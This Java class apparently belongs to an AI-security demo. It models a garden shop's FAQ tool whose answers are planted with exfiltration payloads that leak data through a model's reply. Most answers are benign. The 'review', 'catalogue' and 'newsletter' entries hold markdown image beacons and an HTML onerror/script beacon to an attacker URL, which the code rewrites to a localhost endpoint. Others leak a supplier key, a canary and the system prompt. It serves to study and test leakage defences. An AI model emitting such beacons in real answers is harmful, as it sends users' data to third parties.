package dev.aisecurity.sample;

import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;

import dev.aisecurity.detect.leakage.Canaries;

import org.springframework.core.env.Environment;
import org.springframework.stereotype.Component;

/**
 * What the garden shop is often asked, and what it knows about that. Some of it comes
 * from others, and one of them has planted things there that do harm when an answer shows
 * them: this is how data leaves through an innocent question.
 */
@Component
class FrequentQuestions {

	/** Stands where an answer repeats the system prompt. */
	static final String SYSTEM_PROMPT = "{system}";

	private static final String ATTACKER = "{attacker}";

	private final Map<String, String> answers = new LinkedHashMap<>();

	private final Environment environment;

	FrequentQuestions(Environment environment, Canaries canaries) {
		this.environment = environment;
		this.answers.put("open", "We are open from Monday to Saturday, 9 to 18 o'clock.");
		this.answers.put("return", "You can return plants within 14 days and tools within 30 days, with the receipt.");
		this.answers.put("deliver", "Delivery takes two to three working days and is free from 50 euros.");
		this.answers.put("review", "Customers write: **Best seeds ever!** ![smile](" + ATTACKER + "?image=MEADOW-42)");
		this.answers.put("catalogue", "Have a look at the [catalogue][c] ![cover][c] of this year.\n\n[c]: " + ATTACKER
				+ "?reference=MEADOW-42");
		this.answers.put("newsletter", "Sign up for our newsletter: <img src=\"x\" onerror=\"new Image().src='"
				+ ATTACKER + "?script=MEADOW-42'\"><script>new Image().src='" + ATTACKER + "?script=2'</script>");
		this.answers.put("supplier",
				"Orders go to the portal of our supplier with the key " + Attacks.CREDENTIAL + ".");
		this.answers.put("staff", "From the staff handbook: breaks are at ten and at three. "
				+ canaries.issue("staff-handbook").marker());
		this.answers.put("taught", "This is all I was taught: " + SYSTEM_PROMPT);
		this.answers.put("tomato", "Plant tomatoes in a sunny spot after the last frost, and water them at the root.");
		this.answers.put("rose", "Cut roses back in early spring, just above an outward-facing bud.");
		this.answers.put("lawn", "Sow a lawn from April to May or in September, and keep it moist for three weeks.");
		this.answers.put("summar", "The document speaks of plants, tools and how to care for both.");
	}

	String answer(String question) {
		String lower = question.toLowerCase(Locale.ROOT);
		for (Map.Entry<String, String> entry : this.answers.entrySet()) {
			if (lower.contains(entry.getKey())) {
				return entry.getValue().replace(ATTACKER, attacker());
			}
		}
		return "I can help with opening hours, returns, delivery, tomatoes, roses and lawns.";
	}

	// Another origin for the browser, as the page is opened at localhost
	private String attacker() {
		return "http://127.0.0.1:" + this.environment.getProperty("local.server.port", "8080") + "/demo/stolen";
	}

}
